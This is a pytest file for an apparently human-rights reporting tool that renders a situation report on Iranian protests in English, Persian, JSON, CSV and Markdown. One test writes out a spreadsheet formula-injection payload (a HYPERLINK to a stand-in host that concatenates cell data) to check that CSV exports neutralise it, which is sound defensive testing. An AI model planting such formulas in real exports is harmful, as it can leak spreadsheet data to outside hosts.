"""The report as words (English, Persian), JSON and CSV, on the seed case of 9 January 2026."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import translation

from tests.factories import staff
from tests.reports.conftest import AS_OF, public_report
from vigil.core.services import save_with_history
from vigil.demo.seed import demo_load
from vigil.reports.render.data import CSV_COLUMNS, SCHEMA, render_csv, render_json
from vigil.reports.render.text import render_text
from vigil.sources.models import Source

pytestmark = pytest.mark.django_db


@pytest.fixture
def seed() -> None:
    demo_load()


def _report_command(*args: str) -> str:
    out = io.StringIO()
    call_command("report", *args, stdout=out)
    return out.getvalue()


def test_the_seed_report_reads_like_the_campaign_report(seed):
    """HRANA's figures in one careful sentence, each with its source, then the named individuals."""
    text = _report_command("--as-of", "2026-01-09")

    assert (
        "As of 9 January 2026, sources report more than 512 protests in all 31 provinces (\u2068HRANA\u2069, 9 January 2026)"
        in text
    )
    assert (
        "at least 50 protesters killed, at least 7 of them under 18 (\u2068HRANA\u2069, 9 January 2026)"
        in text
    )
    assert (
        "at least 2,300 arrested, at least 167 of them under 18 (\u2068HRANA\u2069, 9 January 2026)" in text
    )
    assert "student protests at 35 universities (\u2068HRANA\u2069, 9 January 2026)" in text
    assert (
        "Narges Mohammadi (نرگس محمدی) — whereabouts unknown, held incommunicado, in solitary confinement, still detained."
        in text
    )
    assert "Whereabouts unknown since 7 January 2026." in text
    assert "Varisheh Moradi (وریشه مرادی) — on hunger strike, still detained." in text


def test_a_sources_name_is_isolated_in_the_text_and_the_csv_and_json_carry_no_isolates(seed):
    """In the text a source's name is between a first-strong isolate and its end, so the day after a name in
    the other script stays beside its month; the data formats hold the name alone."""
    report = public_report()
    with translation.override("fa"):
        text = render_text(report)

    assert "(\u2068خبرگزاری هرانا\u2069، ۱۹ دی ۱۴۰۴)" in text
    for data in (render_csv(report), render_json(report)):
        assert "HRANA" in data
        assert "\u2068" not in data and "\u2069" not in data


def test_the_report_says_which_numbers_are_reported_and_which_are_named(seed):
    """The two kinds of number stand under their own headings and are never summed."""
    text = render_text(public_report())

    reported = text.index("Reported by sources (aggregate figures)")
    named = text.index("Documented by Vigil: named individuals")
    assert reported < text.index("2,300") < named
    assert "- Arrested: 3 (reported 3)" in text[named:]


def test_the_persian_report_uses_jalali_dates_and_persian_digits(seed):
    """۱۹ دی ۱۴۰۴ is 9 January 2026; 2,300 is ۲٬۳۰۰."""
    text = _report_command("--as-of", "1404/10/19", "--language", "fa")

    assert text.startswith("گزارش وضعیت: ایران")
    assert "تا ۱۹ دی ۱۴۰۴، بنا بر گزارش منابع: بیش از ۵۱۲ تجمع اعتراضی در هر ۳۱ استان" in text
    assert "دست‌کم ۲٬۳۰۰ بازداشت، دست‌کم ۱۶۷ نفر از آنان زیر ۱۸ سال" in text
    assert "نرگس محمدی (Narges Mohammadi)" in text


def test_a_province_report_has_its_own_figures_and_people(seed):
    """Ilam: no named detainees, the Malekshahi figures, the Malekshahi protest."""
    text = _report_command("--as-of", "2026-01-09", "--scope", "Ilam")

    assert text.startswith("Situation report: Ilam")
    assert "Malekshahi: at least 2 protesters killed" in text
    assert "1 protest and 0 strikes in 1 city or town." in text


def test_the_json_export_follows_its_schema(seed):
    """Versioned, with reported figures, named counts, events, timeline and people apart."""
    data = json.loads(render_json(public_report()))

    assert data["schema"] == SCHEMA
    assert set(data) >= {
        "as_of",
        "known_at",
        "scope",
        "reported_figures",
        "named_individuals",
        "events",
        "timeline",
        "people",
    }
    arrested = next(c for c in data["named_individuals"]["categories"] if c["code"] == "arrested")
    assert arrested["people"] == {"total": 3, "verified": 0, "corroborated": 0, "reported": 3, "disputed": 0}
    assert arrested["label_fa"] == "بازداشت‌شده"
    figure = next(f for f in data["reported_figures"]["scope"] if f["metric"] == "arrested")
    assert (figure["qualifier"], figure["value"], figure["source"]["publisher"]) == (
        "at_least",
        2300,
        "HRANA",
    )


def test_the_csv_export_labels_every_number_named_or_reported(seed):
    """One number per row; the kind column says whether it is named, reported, events or timeline."""
    rows = list(csv.DictReader(io.StringIO(render_csv(public_report()))))

    assert list(rows[0]) == CSV_COLUMNS
    assert {row["kind"] for row in rows} == {"reported", "named", "events", "timeline"}
    reported = next(
        r for r in rows if r["kind"] == "reported" and r["measure"] == "arrested" and r["scope"] == "ir"
    )
    named = next(
        r
        for r in rows
        if r["kind"] == "named"
        and r["measure"] == "arrested"
        and r["verification"] == "all"
        and r["subgroup"] == "all"
    )
    assert (reported["value"], reported["qualifier"], named["value"]) == ("2300", "at_least", "3")


def test_the_command_refuses_an_unknown_scope_and_a_date_that_is_not_a_day():
    """The messages say what to write instead."""
    with pytest.raises(CommandError, match="No place is called “Atlantis”"):
        _report_command("--as-of", "2026-01-09", "--scope", "Atlantis")
    with pytest.raises(CommandError, match="is not a day"):
        _report_command("--as-of", "1404-10")


def test_the_command_prints_markdown_tables(seed):
    """Markdown: headings and a table of the named counts."""
    text = _report_command("--as-of", "2026-01-09", "--format", "markdown")

    assert text.startswith("# Situation report: Iran")
    assert "| Category | People | Under 18 | Verified | Corroborated | Reported | Disputed |" in text


def test_labels_follow_the_active_language():
    """Category labels are translated."""
    with translation.override("fa"):
        report = public_report(AS_OF)
        assert report.named_count("detained").label == "همچنان در بازداشت"  # type: ignore[union-attr]


def test_a_source_title_cannot_run_as_a_formula_in_the_csv(seed):
    """A source titled like a formula (copied from a post: "=HYPERLINK(...)", "-30 killed ...") is text when
    the campaign lead opens the CSV in a spreadsheet: it gets a leading apostrophe, as Vigil's exports do."""
    source = Source.objects.get(title__startswith="Campaign report on the uprising")
    source.title = '=HYPERLINK("http://example.invalid/?"&A1,"more")'
    save_with_history(source, actor=staff(), reason="Test: a title pasted from a post")

    rows = list(csv.DictReader(io.StringIO(render_csv(public_report()))))
    titles = {row["source"] for row in rows if row["kind"] == "reported"}
    assert '\'=HYPERLINK("http://example.invalid/?"&A1,"more")' in titles
    assert not [title for title in titles if title[:1] in "=+-@"]
